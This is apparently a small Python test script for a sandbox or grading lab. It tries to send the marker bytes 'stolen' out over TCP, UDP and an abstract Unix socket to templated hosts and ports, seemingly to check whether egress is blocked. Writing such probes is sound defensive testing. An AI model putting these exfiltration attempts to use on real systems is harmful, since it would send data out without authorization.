"""Send the work away: by TCP, by UDP, by a name's lookup and through an abstract socket."""

import socket

for kind, address in (
    (socket.SOCK_STREAM, ("127.0.0.1", int("$PORT"))),
    (socket.SOCK_STREAM, ("$HOST", int("$PORT"))),
    (socket.SOCK_DGRAM, ("127.0.0.1", int("$PORT"))),
):
    try:
        sender = socket.socket(socket.AF_INET, kind)
        sender.settimeout(2)
        sender.connect(address)
        sender.send(b"stolen")
        print("sent", address)
    except OSError as error:
        print(error)
try:
    sender = socket.socket(socket.AF_UNIX)
    sender.connect("\0gradlab-attack-$PORT")
    sender.send(b"stolen")
    print("sent")
except OSError as error:
    print(error)
